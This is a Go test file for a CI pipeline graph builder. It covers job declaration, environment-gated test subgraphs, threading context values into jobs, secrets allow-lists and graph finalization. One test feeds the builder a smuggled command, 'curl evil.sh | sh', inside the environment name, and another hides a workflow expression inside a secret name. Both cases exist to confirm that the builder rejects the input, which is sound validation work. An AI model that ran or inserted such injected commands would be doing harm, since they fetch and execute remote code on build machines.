package pipeline

import (
	"errors"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/roach88/cigraph/internal/ir"
)

func mustContext(t *testing.T, env, version, trigger string) ir.Context {
	t.Helper()
	ctx, err := ir.NewContext(ir.ContextInput{
		Environment: env,
		Version:     version,
		Trigger:     trigger,
		Repository:  "saltstack/salt",
	})
	require.NoError(t, err)
	return ctx
}

func nightly(t *testing.T) ir.Context {
	return mustContext(t, "nightly", "3007.0", ir.TriggerSchedule)
}

func staging(t *testing.T) ir.Context {
	return mustContext(t, "staging", "3.0.0", ir.TriggerManual)
}

// declareTestSubgraph declares a base job, a nightly-only test subgraph and
// a job with soft dependencies on the tests.
func declareTestSubgraph(t *testing.T, b *Builder) {
	t.Helper()
	_, err := b.DeclareJob("build", Concludes())
	require.NoError(t, err)

	err = b.IncludeSubgraphIf("nightly-tests", EnvironmentIn("nightly"), func(b *Builder) error {
		if _, err := b.DeclareJob("test-pkg", Needs("build"), Concludes()); err != nil {
			return err
		}
		_, err := b.DeclareJob("test", Needs("build", "test-pkg"), Concludes())
		return err
	})
	require.NoError(t, err)

	_, err = b.DeclareJob("publish", Needs("build"), NeedsIfPresent("test-pkg", "test"), Concludes())
	require.NoError(t, err)
}

// =============================================================================
// DeclareJob
// =============================================================================

func TestDeclareJobBasic(t *testing.T) {
	b := NewBuilder("release", nightly(t))

	job, err := b.DeclareJob("lint", Label("Lint"), RunsOn("ubuntu-latest"),
		Steps(ir.Step{Name: "Run", Run: "make lint"}))
	require.NoError(t, err)

	assert.Equal(t, "lint", job.ID)
	assert.Equal(t, "Lint", job.Label)
	assert.Equal(t, "always", job.Guard)
	assert.Equal(t, []string{"ubuntu-latest"}, job.RunsOn)
	assert.True(t, b.Included("lint"))
	assert.Equal(t, 0, b.Accumulator().Len(), "job without Concludes must not register")
}

func TestDeclareJobDuplicateID(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	_, err := b.DeclareJob("lint")
	require.NoError(t, err)

	_, err = b.DeclareJob("lint")
	require.Error(t, err)
	assert.True(t, errors.Is(err, &ConfigError{Code: ErrDuplicateID}))

	_, err = b.Finalize()
	assert.True(t, HasCode(err, ErrDuplicateID))
}

func TestDeclareJobDuplicateOfExcludedJob(t *testing.T) {
	b := NewBuilder("release", staging(t))
	require.NoError(t, b.IncludeSubgraphIf("tests", EnvironmentIn("nightly"), func(b *Builder) error {
		_, err := b.DeclareJob("test")
		return err
	}))

	_, err := b.DeclareJob("test")
	assert.True(t, HasCode(err, ErrDuplicateID), "ids are unique across excluded jobs too")
}

func TestDeclareJobTerminalIDReserved(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	_, err := b.DeclareJob("set-pipeline-exit-status")
	assert.True(t, HasCode(err, ErrDuplicateID))
}

func TestDeclareJobInvalidID(t *testing.T) {
	tests := []string{"", "Build", "-lead", "has space", "dot.ted"}
	for _, id := range tests {
		t.Run(id, func(t *testing.T) {
			b := NewBuilder("release", nightly(t))
			_, err := b.DeclareJob(id)
			assert.True(t, HasCode(err, ErrInvalidID))
		})
	}
}

func TestDeclareJobUnknownDependency(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	_, err := b.DeclareJob("build", Needs("missing"))
	require.NoError(t, err, "unknown refs are classified at Finalize")

	graph, err := b.Finalize()
	assert.Nil(t, graph)
	errs := ConfigErrors(err)
	require.Len(t, errs, 1)
	assert.Equal(t, ErrUnknownDependency, errs[0].Code)
	assert.Equal(t, "build", errs[0].Job)
	assert.Equal(t, "missing", errs[0].Ref)
}

func TestDeclareJobForwardReference(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	_, err := b.DeclareJob("build", Needs("prepare"))
	require.NoError(t, err)
	_, err = b.DeclareJob("prepare")
	require.NoError(t, err)

	_, err = b.Finalize()
	errs := ConfigErrors(err)
	require.Len(t, errs, 1)
	assert.Equal(t, ErrForwardReference, errs[0].Code)
	assert.Contains(t, errs[0].Message, "declared later")
}

func TestDeclareJobSelfDependency(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	_, err := b.DeclareJob("loop", Needs("loop"))
	require.Error(t, err)

	errs := ConfigErrors(err)
	require.Len(t, errs, 1)
	assert.Equal(t, ErrCyclicReference, errs[0].Code)
	assert.Equal(t, []string{"loop", "loop"}, errs[0].Path)
}

func TestDeclareJobDuplicateNeedsCollapsed(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	_, err := b.DeclareJob("a")
	require.NoError(t, err)

	job, err := b.DeclareJob("b", Needs("a", "a"), NeedsIfPresent("a"))
	require.NoError(t, err)
	assert.Equal(t, []string{"a"}, job.Needs)
}

func TestDeclareJobShape(t *testing.T) {
	tests := []struct {
		name string
		opts []JobOption
		code string
	}{
		{
			name: "uses with steps",
			opts: []JobOption{Uses("./x.yml"), Steps(ir.Step{Run: "echo"})},
			code: ErrInvalidJobShape,
		},
		{
			name: "uses with runs-on",
			opts: []JobOption{Uses("./x.yml"), RunsOn("ubuntu-latest")},
			code: ErrInvalidJobShape,
		},
		{
			name: "inherit without uses",
			opts: []JobOption{Secrets(ir.InheritSecrets())},
			code: ErrInvalidSecrets,
		},
		{
			name: "inherit and allow-list",
			opts: []JobOption{Uses("./x.yml"), Secrets(ir.SecretsPolicy{Inherit: true, Allow: []string{"A"}})},
			code: ErrInvalidSecrets,
		},
		{
			name: "secret name with expression",
			opts: []JobOption{RunsOn("ubuntu-latest"), Secrets(ir.AllowSecrets("TOKEN }}${{ github.token"))},
			code: ErrInvalidSecrets,
		},
		{
			name: "step with uses and run",
			opts: []JobOption{Steps(ir.Step{Name: "bad", Uses: "actions/checkout@v4", Run: "ls"})},
			code: ErrInvalidJobShape,
		},
		{
			name: "empty step",
			opts: []JobOption{Steps(ir.Step{Name: "empty"})},
			code: ErrInvalidJobShape,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b := NewBuilder("release", nightly(t))
			_, err := b.DeclareJob("job", tt.opts...)
			assert.True(t, HasCode(err, tt.code), "got %v", err)
		})
	}
}

func TestDeclareJobInheritWithUses(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	job, err := b.DeclareJob("call", Uses("./.github/workflows/x.yml"), Secrets(ir.InheritSecrets()))
	require.NoError(t, err)
	assert.True(t, job.Reusable())
	assert.True(t, job.Secrets.Inherit)
}

func TestDeclareJobAllowListOnRunnerJob(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	job, err := b.DeclareJob("deploy",
		RunsOn("ubuntu-latest"),
		Steps(ir.Step{Run: "./deploy.sh"}),
		Secrets(ir.AllowSecrets("DEPLOY_TOKEN", "SIGNING_KEY")),
		Env("SIGNING_KEY", ir.String("${{ secrets.OTHER_KEY }}")),
	)
	require.NoError(t, err)

	assert.Equal(t, ir.Map{
		"DEPLOY_TOKEN": ir.String("${{ secrets.DEPLOY_TOKEN }}"),
		"SIGNING_KEY":  ir.String("${{ secrets.OTHER_KEY }}"),
	}, job.Env)
	assert.Equal(t, []string{"DEPLOY_TOKEN", "SIGNING_KEY"}, job.Secrets.Allow)
}

func TestDeclareJobAllowListOnReusableJob(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	job, err := b.DeclareJob("call", Uses("./x.yml"), Secrets(ir.AllowSecrets("DEPLOY_TOKEN")))
	require.NoError(t, err)

	assert.Empty(t, job.Env)
	assert.Equal(t, []string{"DEPLOY_TOKEN"}, job.Secrets.Allow)
}

func TestNewBuilderRejectsInvalidContext(t *testing.T) {
	ctx := nightly(t)
	ctx.Environment = "nightly; curl evil.sh | sh #"

	b := NewBuilder("release", ctx)
	_, err := b.DeclarePublishJob(DefaultPublishSpec())
	require.NoError(t, err)

	graph, err := b.Finalize()
	assert.Nil(t, graph)
	require.True(t, HasCode(err, ErrInvalidContext), "got %v", err)
	assert.Contains(t, err.Error(), "environment")
}

func TestDeclareJobReturnsCopy(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	_, err := b.DeclareJob("a")
	require.NoError(t, err)
	job, err := b.DeclareJob("b", Needs("a"), With("k", ir.String("v")))
	require.NoError(t, err)

	job.Needs[0] = "mutated"
	job.With["k"] = ir.String("mutated")

	graph, err := b.Finalize()
	require.NoError(t, err)
	stored, ok := graph.Job("b")
	require.True(t, ok)
	assert.Equal(t, []string{"a"}, stored.Needs)
	assert.Equal(t, ir.String("v"), stored.With["k"])
}

// =============================================================================
// Context threading
// =============================================================================

func TestContextParamsThreaded(t *testing.T) {
	tests := []struct {
		name    string
		ctx     ir.Context
		rc      bool
		nightly bool
	}{
		{"nightly final", mustContext(t, "nightly", "3007.0", "schedule"), false, true},
		{"nightly rc", mustContext(t, "nightly", "3006.1-0-rc1", "schedule"), true, true},
		{"staging", mustContext(t, "staging", "3.0.0", "manual"), false, false},
		{"staging rc", mustContext(t, "staging", "3007.0rc2", "manual"), true, false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b := NewBuilder("release", tt.ctx)
			for _, id := range []string{"a", "b", "c"} {
				_, err := b.DeclareJob(id, ThreadContext())
				require.NoError(t, err)
			}
			graph, err := b.Finalize()
			require.NoError(t, err)

			for _, id := range []string{"a", "b", "c"} {
				job, _ := graph.Job(id)
				assert.Equal(t, ir.Bool(tt.rc), job.With["rc-build"], id)
				assert.Equal(t, ir.Bool(tt.nightly), job.With["nightly-build"], id)
				assert.Equal(t, ir.String(tt.ctx.Version), job.With["version"], id)
			}
		})
	}
}

func TestThreadContextExplicitWins(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	job, err := b.DeclareJob("a", With("version", ir.String("override")), ThreadContext())
	require.NoError(t, err)
	assert.Equal(t, ir.String("override"), job.With["version"])
	assert.Equal(t, ir.Bool(true), job.With["nightly-build"])
}

// =============================================================================
// Subgraphs
// =============================================================================

func TestSubgraphIncludedInNightly(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	declareTestSubgraph(t, b)

	graph, err := b.Finalize()
	require.NoError(t, err)

	assert.True(t, graph.Has("test-pkg"))
	assert.True(t, graph.Has("test"))
	assert.Empty(t, graph.Excluded)

	publish, _ := graph.Job("publish")
	assert.Equal(t, []string{"build", "test-pkg", "test"}, publish.Needs)

	test, _ := graph.Job("test")
	assert.Equal(t, []string{"nightly-tests"}, test.Scope)
	assert.Equal(t, "environment in [nightly]", test.Guard)
}

func TestSubgraphExcludedOutsideNightly(t *testing.T) {
	b := NewBuilder("release", staging(t))
	declareTestSubgraph(t, b)

	graph, err := b.Finalize()
	require.NoError(t, err)

	assert.False(t, graph.Has("test-pkg"))
	assert.False(t, graph.Has("test"))
	assert.Equal(t, []string{"test-pkg", "test"}, graph.Excluded)

	publish, _ := graph.Job("publish")
	assert.Equal(t, []string{"build"}, publish.Needs, "soft deps on excluded jobs are dropped")

	terminal, _ := graph.Job(graph.Terminal)
	assert.Equal(t, []string{"build", "publish"}, terminal.Needs, "excluded jobs never conclude")
}

func TestSubgraphShadowScopeStillChecks(t *testing.T) {
	b := NewBuilder("release", staging(t))
	err := b.IncludeSubgraphIf("tests", EnvironmentIn("nightly"), func(b *Builder) error {
		_, err := b.DeclareJob("Bad-ID")
		return err
	})
	require.Error(t, err)

	_, err = b.Finalize()
	assert.True(t, HasCode(err, ErrInvalidID))
	assert.Len(t, ConfigErrors(err), 1, "error recorded once even though fn returned it")
}

func TestUnguardedDependencyIsStatic(t *testing.T) {
	for _, ctx := range []ir.Context{nightly(t), staging(t)} {
		t.Run(ctx.Environment, func(t *testing.T) {
			b := NewBuilder("release", ctx)
			require.NoError(t, b.IncludeSubgraphIf("tests", EnvironmentIn("nightly"), func(b *Builder) error {
				_, err := b.DeclareJob("test")
				return err
			}))

			_, err := b.DeclareJob("publish", Needs("test"))
			require.Error(t, err)
			assert.True(t, HasCode(err, ErrUnguardedDependency))
		})
	}
}

func TestGuardedJobIsPrivateScope(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	_, err := b.DeclareJob("verify", When(ReleaseCandidate()))
	require.NoError(t, err)
	assert.False(t, b.Included("verify"))
	assert.True(t, b.Declared("verify"))

	_, err = b.DeclareJob("publish", Needs("verify"))
	assert.True(t, HasCode(err, ErrUnguardedDependency))

	job, err := b.DeclareJob("publish-soft", NeedsIfPresent("verify"))
	require.NoError(t, err)
	assert.Empty(t, job.Needs)
}

func TestNestedExcludedSubgraphInsideIncluded(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	err := b.IncludeSubgraphIf("tests", Always(), func(b *Builder) error {
		return b.IncludeSubgraphIf("full", TriggerIn("push"), func(b *Builder) error {
			_, err := b.DeclareJob("matrix")
			return err
		})
	})
	require.NoError(t, err)
	assert.False(t, b.Included("matrix"))
}

func TestNestedSubgraphGuardsCompose(t *testing.T) {
	run := func(ctx ir.Context) *ir.Graph {
		b := NewBuilder("release", ctx)
		require.NoError(t, b.IncludeSubgraphIf("nightly-tests", EnvironmentIn("nightly"), func(b *Builder) error {
			if _, err := b.DeclareJob("test", Concludes()); err != nil {
				return err
			}
			return b.IncludeSubgraphIf("scheduled", TriggerIn("schedule"), func(b *Builder) error {
				_, err := b.DeclareJob("full-matrix", Needs("test"), Concludes())
				return err
			})
		}))
		graph, err := b.Finalize()
		require.NoError(t, err)
		return graph
	}

	g := run(mustContext(t, "nightly", "3007.0", "schedule"))
	assert.True(t, g.Has("full-matrix"))
	full, _ := g.Job("full-matrix")
	assert.Equal(t, "environment in [nightly] && trigger in [schedule]", full.Guard)
	assert.Equal(t, []string{"nightly-tests", "scheduled"}, full.Scope)

	g = run(mustContext(t, "nightly", "3007.0", "push"))
	assert.True(t, g.Has("test"))
	assert.False(t, g.Has("full-matrix"))

	g = run(mustContext(t, "staging", "3007.0", "schedule"))
	assert.False(t, g.Has("test"))
	assert.False(t, g.Has("full-matrix"))
	assert.Equal(t, []string{"test", "full-matrix"}, g.Excluded)
}

func TestSubgraphDuplicateName(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	noop := func(*Builder) error { return nil }
	require.NoError(t, b.IncludeSubgraphIf("tests", Always(), noop))

	err := b.IncludeSubgraphIf("tests", Always(), noop)
	assert.True(t, HasCode(err, ErrDuplicateID))
}

func TestSubgraphMalformed(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	err := b.IncludeSubgraphIf("", Always(), func(*Builder) error { return nil })
	assert.True(t, HasCode(err, ErrMalformedBlock))

	err = b.IncludeSubgraphIf("tests", Always(), nil)
	assert.True(t, HasCode(err, ErrMalformedBlock))
}

func TestSubgraphForeignErrorRecorded(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	boom := errors.New("boom")
	err := b.IncludeSubgraphIf("tests", Always(), func(*Builder) error { return boom })
	require.ErrorIs(t, err, boom)

	_, err = b.Finalize()
	require.ErrorIs(t, err, boom)
}

// =============================================================================
// Conclusion & Finalize
// =============================================================================

func TestConclude(t *testing.T) {
	b := NewBuilder("release", staging(t))
	_, err := b.DeclareJob("a")
	require.NoError(t, err)
	_, err = b.DeclareJob("b", Concludes())
	require.NoError(t, err)
	_, err = b.DeclareJob("skipped", When(Never()))
	require.NoError(t, err)

	require.NoError(t, b.Conclude("a", "b", "a", "skipped"))
	assert.Equal(t, []string{"b", "a"}, b.Accumulator().Snapshot())

	err = b.Conclude("ghost")
	assert.True(t, HasCode(err, ErrUnknownDependency))
}

func TestFinalizeTerminalNeedsEqualAccumulator(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	declareTestSubgraph(t, b)
	require.NoError(t, b.Conclude("build", "test"))
	want := b.Accumulator().Snapshot()

	graph, err := b.Finalize()
	require.NoError(t, err)

	terminal, ok := graph.Job(graph.Terminal)
	require.True(t, ok)
	assert.Equal(t, want, terminal.Needs)
	assert.Equal(t, want, graph.Conclusion)
	assert.Equal(t, "always()", terminal.If)
	assert.Equal(t, "set-pipeline-exit-status", graph.Jobs[len(graph.Jobs)-1].ID, "terminal job is last")

	seen := make(map[string]bool)
	for _, id := range terminal.Needs {
		assert.False(t, seen[id], "duplicate %s", id)
		seen[id] = true
	}
}

func TestFinalizeNoDanglingEdges(t *testing.T) {
	for _, ctx := range []ir.Context{nightly(t), staging(t), mustContext(t, "prod", "1.0rc1", "push")} {
		b := NewBuilder("release", ctx)
		declareTestSubgraph(t, b)
		graph, err := b.Finalize()
		require.NoError(t, err)

		for _, edge := range graph.Edges() {
			assert.True(t, graph.Has(edge.To), "%s -> %s dangles", edge.From, edge.To)
		}
	}
}

func TestFinalizeCollectsAllErrors(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	_, _ = b.DeclareJob("a", Needs("nope"))
	_, _ = b.DeclareJob("a")
	_, _ = b.DeclareJob("BAD")

	graph, err := b.Finalize()
	assert.Nil(t, graph)

	var codes []string
	for _, ce := range ConfigErrors(err) {
		codes = append(codes, ce.Code)
	}
	assert.ElementsMatch(t, []string{ErrDuplicateID, ErrInvalidID, ErrUnknownDependency}, codes)
}

func TestFinalizeOnce(t *testing.T) {
	b := NewBuilder("release", nightly(t))
	_, err := b.Finalize()
	require.NoError(t, err)

	_, err = b.Finalize()
	assert.True(t, HasCode(err, ErrFinalized))

	_, err = b.DeclareJob("late")
	assert.True(t, HasCode(err, ErrFinalized))
}

func TestFinalizeCustomTerminal(t *testing.T) {
	b := NewBuilder("release", nightly(t), WithTerminal(TerminalSpec{
		ID:     "status",
		RunsOn: []string{"self-hosted"},
		Steps:  []ir.Step{{Run: "exit 0"}},
	}))
	_, err := b.DeclareJob("a", Concludes())
	require.NoError(t, err)

	graph, err := b.Finalize()
	require.NoError(t, err)
	assert.Equal(t, "status", graph.Terminal)
	status, _ := graph.Job("status")
	assert.Equal(t, []string{"a"}, status.Needs)
}

func TestFinalizeDeterministic(t *testing.T) {
	build := func() string {
		b := NewBuilder("release", nightly(t))
		declareTestSubgraph(t, b)
		graph, err := b.Finalize()
		require.NoError(t, err)
		return ir.MustGraphDigest(graph)
	}
	assert.Equal(t, build(), build())
}
